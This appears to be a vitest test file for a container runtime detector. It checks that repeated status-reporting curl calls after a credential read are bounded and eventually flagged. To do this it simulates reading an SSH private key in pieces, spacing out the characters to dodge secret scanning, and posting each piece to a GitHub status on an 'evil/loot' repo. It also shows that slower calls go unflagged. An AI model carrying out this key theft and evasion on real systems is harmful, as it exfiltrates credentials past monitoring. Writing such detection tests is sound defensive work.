/**
 * Calls that only report back (src/rules/reporting-calls.ts) are no push each, but a container's are bounded
 * (src/correlate/report-bound.ts): red-team review split a credential's text, blanks inserted so nothing in it is
 * shaped like a secret, across a status description per call, every one quiet after the read. A job's few reports
 * stay quiet; past REPORTS_PER_WINDOW within the window, the next is judged as any push.
 */
import { describe, expect, it } from 'vitest';
import { REPORT_WINDOW_MS, REPORTS_PER_WINDOW } from '../../../src/correlate/report-bound.js';
import { brief, runResolved, Scenario } from './builder.js';

const API_GITHUB_IP = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
const CREDS = '/root/.ssh/id_ed25519';
const STATUS = 'https://api.github.com/repos/evil/loot/statuses/3f9a0c1d';
const HIGH = { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' };

/** A piece of a key with a blank after each character (`sed 's/./& /g'`): nothing shaped like a secret. */
const piece = (i: number) => `b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE${i}`.replace(/./g, '$& ');

/** A job reads a key's pieces, posting each in a status, `calls` of them `gapMs` apart; Tetragon quotes an argument holding blanks. */
async function alertsOf(source: 'tetragon' | 'falco', calls: number, gapMs = 2_000) {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'build-3', name: 'job' });
  const sh = s.exec(c, '/bin/sh', '-c ./ci/build.sh', { parent: s.init(c) });
  for (let i = 0; i < calls; i++) {
    // The key's next piece (`cut -c`), read before each call.
    const cut = s.exec(c, '/usr/bin/cut', `-c ${i * 40 + 1}-${i * 40 + 40} ${CREDS}`, { parent: sh });
    s.wait(2).read(cut, CREDS, 411).wait(5).exit(cut).wait(500);
    const body = `{"state":"success","description":"${piece(i)}"}`;
    const args = source === 'tetragon' ? `-sS -d "${body.replace(/"/g, '\\"')}" ${STATUS}` : `-sS -d ${body} ${STATUS}`;
    const curl = s.exec(c, '/usr/bin/curl', args, { parent: sh });
    s.wait(5).connect(curl, API_GITHUB_IP, 443).wait(20).send(curl, API_GITHUB_IP, 443, 900).wait(100).exit(curl);
    s.wait(gapMs);
  }
  return brief((await runResolved(s.events)).alerts);
}

describe("a container's reporting calls are bounded", () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`a job's reports after a credential read stay quiet up to the bound (${source})`, async () => {
      expect(await alertsOf(source, REPORTS_PER_WINDOW)).toEqual([]);
    });

    it(`past the bound within the window, the next call is a push (${source})`, async () => {
      const alerts = await alertsOf(source, REPORTS_PER_WINDOW + 2);
      // One alert: the second past the bound is the same (rule, destination), suppressed as a repeat.
      expect(alerts).toEqual([HIGH]);
    });

    it(`calls spread wider than the window stay within the bound, each read before (${source})`, async () => {
      const gapMs = REPORT_WINDOW_MS / (REPORTS_PER_WINDOW - 1);
      expect(await alertsOf(source, REPORTS_PER_WINDOW + 2, gapMs)).toEqual([]);
    });
  }
});
